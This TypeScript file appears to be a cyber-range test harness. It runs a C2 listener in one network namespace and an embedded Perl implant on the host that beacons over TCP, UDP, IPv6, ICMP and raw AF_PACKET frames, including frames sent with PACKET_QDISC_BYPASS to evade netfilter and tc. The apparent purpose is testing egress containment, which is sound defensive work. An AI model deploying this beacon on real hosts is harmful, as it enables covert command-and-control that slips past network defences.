import { type ChildProcess, spawn } from "node:child_process";
import { createInterface } from "node:readline";
import type { Range } from "#range/range";

const KINDS = ["tcp", "udp", "udp6", "icmp", "raw", "bypass"] as const;
export type Kind = (typeof KINDS)[number];

/**
 * What reached the C2: packets of each kind so far, and when the last came (milliseconds since the epoch). `raw` and `bypass` are
 * datagrams that the implant builds itself and sends as frames (AF_PACKET), past every hook of IP; `bypass` goes past tc too
 * (PACKET_QDISC_BYPASS, packet(7)).
 */
export type Heard = Record<Kind, { count: number; last: number }>;

export interface Beacon {
  heard(): Promise<Heard>;
  stop(): void;
}

const UDP_PORT = 5353;
const TCP_PORT = 4444;
const RAW_SOURCE = 1111;

const BYPASS_SOURCE = 1112;

/** Pings are answered by the C2's kernel: its own count of them is looked at (proc(5), /proc/net/snmp). */
const LISTENER = `
const fs = require("fs");
const h = Object.fromEntries(${JSON.stringify(KINDS)}.map((k) => [k, { count: 0, last: 0 }]));
const now = () => performance.timeOrigin + performance.now();
const note = (k, n) => { h[k].count += n; h[k].last = now(); };
const pings = () => { const [names, values] = fs.readFileSync("/proc/self/net/snmp", "latin1").match(/^Icmp: .*$/gm).map((l) => l.split(" ")); return Number(values[names.indexOf("InEchos")]); };
let last = pings(); const ping = () => { const n = pings(); if (n > last) note("icmp", n - last); last = n; };
setInterval(ping, 2);
const kind = { ${RAW_SOURCE}: "raw", ${BYPASS_SOURCE}: "bypass" };
const u = require("dgram").createSocket("udp4"); u.on("message", (_, from) => note(kind[from.port] ?? "udp", 1)); u.bind(${UDP_PORT});
const six = require("dgram").createSocket({ type: "udp6", ipv6Only: true }); six.on("message", () => note("udp6", 1)); six.bind(${UDP_PORT});
require("net").createServer((s) => { s.on("data", () => note("tcp", 1)); s.on("error", () => {}); }).listen(${TCP_PORT}, "0.0.0.0", () => console.log("{}"));
require("readline").createInterface({ input: process.stdin }).on("line", () => { ping(); console.log(JSON.stringify(h)); }).on("close", () => process.exit());
`;

/** The intruder's implant: a packet of each kind every millisecond, all to the C2, for as long as it lives; it reconnects. */
const IMPLANT = String.raw`
use strict; use IO::Socket::INET; use Socket qw(pack_sockaddr_in6 inet_pton inet_aton pack_sockaddr_in AF_INET6 SOCK_DGRAM SOCK_RAW); use Time::HiRes qw(sleep); $SIG{PIPE} = "IGNORE";
my ($to, $to6) = @ARGV;
my $u = IO::Socket::INET->new(Proto => "udp", PeerAddr => $to, PeerPort => ${UDP_PORT}) or die;
my $t = IO::Socket::INET->new(Proto => "tcp", PeerAddr => $to, PeerPort => ${TCP_PORT}) or die; $t->autoflush(1); setsockopt($t, 6, 1, 1); $t->blocking(0);
sub line { open my $f, "<", $_[0] or die; local $/; my $l = <$f>; chomp $l; $l }
sub sum { my $s = 0; $s += $_ for unpack "n*", $_[0]; $s = ($s >> 16) + ($s & 0xffff) while $s >> 16; ~$s & 0xffff }
my ($gw, $mac);
while (!$gw) { send($u, "beacon", 0); sleep 0.01; ($gw) = line("/proc/net/arp") =~ /^\S+\.1\s+0x1\s+0x2\s+(\S+)/m; }
s/://g for $gw, $mac = line("/sys/class/net/eth0/address");
sub frame {
  my $body = pack("nnnn", $_[0], ${UDP_PORT}, 14, 0) . "beacon";
  my $head = pack("CCnnnCCna4a4", 0x45, 0, 20 + length $body, 0, 0, 64, 17, 0, $u->sockaddr, $u->peeraddr);
  substr($head, 10, 2) = pack "n", sum($head);
  return pack("H12H12n", $gw, $mac, 0x0800) . $head . $body;
}
my ($frame, $other) = (frame(${RAW_SOURCE}), frame(${BYPASS_SOURCE}));
socket(my $p, 17, 3, 0) or die; # AF_PACKET, SOCK_RAW: packet(7)
socket(my $q, 17, 3, 0) or die; setsockopt($q, 263, 20, pack "i", 1) or die; # SOL_PACKET, PACKET_QDISC_BYPASS
socket(my $s, AF_INET6, SOCK_DGRAM, 0) or die; my $six = pack_sockaddr_in6(${UDP_PORT}, inet_pton(AF_INET6, $to6));
socket(my $i, 2, SOCK_RAW, 1) or die; my $echo = pack("CCnnn", 8, 0, 0, 7, 7); substr($echo, 2, 2) = pack "n", sum($echo);
my $ping = pack_sockaddr_in(0, inet_aton($to));
my $link = pack("SniSCCa8", 17, 0x0800, line("/sys/class/net/eth0/ifindex"), 0, 0, 6, pack "H12", $gw);
STDIN->blocking(0);
until (defined sysread STDIN, my $end, 1) { # whoever started it closes it, or is gone: a signal would reach nsenter alone
  send($p, $frame, 0, $link); send($q, $other, 0, $link); send($s, "beacon", 0, $six); send($i, $echo, 0, $ping);
  $u = IO::Socket::INET->new(Proto => "udp", PeerAddr => $to, PeerPort => ${UDP_PORT}) unless defined $u && defined send($u, "beacon", 0);
  if ($t && !defined syswrite($t, "shell-data\n") && !$!{EAGAIN}) { close $t; $t = undef; }
  if (!$t) { $t = IO::Socket::INET->new(Proto => "tcp", PeerAddr => $to, PeerPort => ${TCP_PORT}, Blocking => 0); }
  sleep 0.001;
}
`;

/** Starts a listener in the C2's namespace and the implant on the host; resolves once every kind of packet arrives. */
export async function startBeacon(range: Range): Promise<Beacon> {
  const [program = "", ...argv] = range.inNetns(range.netns.c2, [process.execPath, "-e", LISTENER]);
  const listener = spawn(program, argv, { stdio: ["pipe", "pipe", "inherit"] });
  const answers = createInterface({ input: listener.stdout });
  const next = () => new Promise<string>((resolve) => answers.once("line", resolve));
  await next();
  const heard = async () => {
    const answer = next();
    listener.stdin.write("\n");
    return JSON.parse(await answer) as Heard;
  };
  const implant: ChildProcess = spawn(
    "nsenter",
    ["-t", String(range.hostPid1), "-a", "/usr/bin/perl", "-e", IMPLANT, range.c2.address, range.c2.address6],
    {
      stdio: ["pipe", "ignore", "inherit"],
      env: {},
    },
  );
  const stop = () => {
    implant.stdin?.end();
    listener.kill("SIGKILL");
  };
  for (let all = await heard(); KINDS.some((kind) => all[kind].count < 50); all = await heard()) {
    if (implant.exitCode !== null) throw new Error("The implant ended before its beacons arrived.");
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  return { heard, stop };
}
